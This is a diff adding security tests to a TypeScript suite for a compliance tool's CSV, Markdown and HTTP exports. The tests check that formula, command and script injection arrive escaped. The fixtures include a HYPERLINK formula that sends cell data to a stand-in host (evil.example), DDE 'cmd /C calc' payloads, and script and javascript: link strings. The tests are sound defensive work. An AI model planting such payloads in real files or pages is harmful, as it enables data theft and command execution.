@@ -133,6 +133,84 @@ test('the HTTP export serves each format with its content type, and refuses bad 
   expect(await posture.text()).toContain('## Coverage per framework');
 });
 
+const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+const HOSTILE_MD = '<script>alert(1)</script> [Click](javascript:alert(1)) <http://evil.example> www.evil.example *bold* `code` | ~~cell~~';
+
+/** An API key of the role, as a client would hold it. */
+async function apiKey(role: 'SYNC' | 'COMPLIANCE', source?: string): Promise<string> {
+  const { createApiKey } = await api.data('mutation($n: String!, $r: Role!, $s: String) { createApiKey(name: $n, role: $r, source: $s) { key } }', { n: unique(role), r: role, s: source }, {
+    name: 'admin',
+    kind: 'apiKey',
+    role: 'ADMIN',
+  });
+  return createApiKey.key;
+}
+
+async function postAs(key: string, query: string, variables: Record<string, unknown>) {
+  const response = await fetch(`${base}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${key}` }, body: JSON.stringify({ query, variables }) });
+  const body = (await response.json()) as { data?: unknown; errors?: unknown };
+  expect(body.errors).toBeUndefined();
+  return body.data;
+}
+
+/** A framework of its own with one requirement that a control named `name`, planted by a SYNC key, satisfies. */
+async function plantControl(name: string, extra: { evidence?: string; owner?: string } = {}) {
+  const framework = await createTestFramework(api, [
+    { identifier: 'Art. 1', kind: 'ARTICLE', title: '\t=1+1' },
+    { identifier: 'Art. 2', kind: 'ARTICLE', title: '\r=2+2' },
+  ]);
+  const source = unique('planted');
+  await postAs(await apiKey('SYNC', source), SYNC, {
+    input: {
+      source,
+      assets: {
+        controls: [{ externalId: 'c', name, implementationStatus: 'IMPLEMENTED' }],
+        evidence: extra.evidence ? [{ externalId: 'e', name: extra.evidence }] : [],
+        owners: extra.owner ? [{ externalId: 'o', name: extra.owner }] : [],
+      },
+      relationships: [
+        ...(extra.evidence ? [{ type: 'SUPPORTS', from: { type: 'Evidence', externalId: 'e' }, to: { type: 'Control', externalId: 'c' } }] : []),
+        ...(extra.owner ? [{ type: 'OWNED_BY', from: { type: 'Control', externalId: 'c' }, to: { type: 'Owner', externalId: 'o' } }] : []),
+      ],
+    },
+  });
+  const compliance = await apiKey('COMPLIANCE');
+  await postAs(compliance, SATISFY, { controlId: await idOf(api, source, 'Control', 'c'), r: { framework, identifier: 'Art. 1' }, coverage: 'FULL', why: 'Planted.' });
+  return { framework, compliance };
+}
+
+test('CSV cells that a spreadsheet would run as formulas arrive as text, whoever planted them', async () => {
+  const { framework, compliance } = await plantControl(FORMULA, { evidence: '+1+cmd|" /C calc"!A0', owner: '@SUM(1+1)*cmd|" /C calc"!A0' });
+  await postAs(compliance, 'mutation($r: RequirementRefInput!) { declareNotApplicable(requirement: $r, rationale: "-2+3+cmd") { id } }', { r: { framework, identifier: 'Art. 2' } });
+
+  const text = await (await fetch(`${base}/exports/coverage?framework=${framework}&format=csv`)).text();
+  const byId = Object.fromEntries(parseCsv(text).slice(1).map((row) => [row[2], Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, row[i]]))]));
+  expect(byId['Art. 1']).toMatchObject({ title: "'\t=1+1", controls: `'${FORMULA}`, evidence: '\'+1+cmd|" /C calc"!A0', owners: '\'@SUM(1+1)*cmd|" /C calc"!A0' });
+  expect(byId['Art. 2']).toMatchObject({ title: "'\r=2+2", not_applicable_rationale: "'-2+3+cmd" });
+  // Every field is quoted, so nothing outside quotes can start a cell, whatever separator a spreadsheet splits on.
+  for (const line of text.trimEnd().split('\r\n')) expect(line).toMatch(/^"([^"]|"")*"(,"([^"]|"")*")*$/s);
+});
+
+test('Markdown shows names as text: no HTML, no link, no emphasis, and no extra table cell', async () => {
+  const { framework } = await plantControl(HOSTILE_MD);
+  const md = await (await fetch(`${base}/exports/coverage?framework=${framework}&format=md`)).text();
+  expect(md).not.toContain('<');
+  const row = md.split('\n').find((line) => line.startsWith('| Art. 1 |'))!;
+  expect(row).toContain(
+    '&lt;script&gt;alert(1)&lt;/script&gt; \\[Click\\](javascript\\:alert(1)) &lt;http\\:\\//evil\\.example&gt; www\\.evil\\.example \\*bold\\* \\`code\\` \\| \\~\\~cell\\~\\~',
+  );
+  // Identifier, title, group, status, controls, owners: a | in a name does not open a seventh.
+  expect(row.split(/(?<!\\)\|/).slice(1, -1)).toHaveLength(6);
+});
+
+test('every export forbids content sniffing and everything but inline styles', async () => {
+  const csp = "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
+  for (const path of [`coverage?framework=${fw}&format=html`, `coverage?framework=${fw}&format=csv`, `coverage?framework=${fw}&format=md`, 'coverage?format=pdf', 'posture']) {
+    const response = await fetch(`${base}/exports/${path}`);
+    expect([path, response.headers.get('x-content-type-options'), response.headers.get('content-security-policy')]).toEqual([path, 'nosniff', csp]);
+  }
+});
+
 test('npm run coverage prints the map to stdout for the database in NEO4J_URI', () => {
   const root = path.resolve(__dirname, '../..');
   const run = spawnSync(path.join(root, 'node_modules/.bin/tsx'), ['scripts/coverage.ts', '--framework', fw, '--format', 'csv'], {
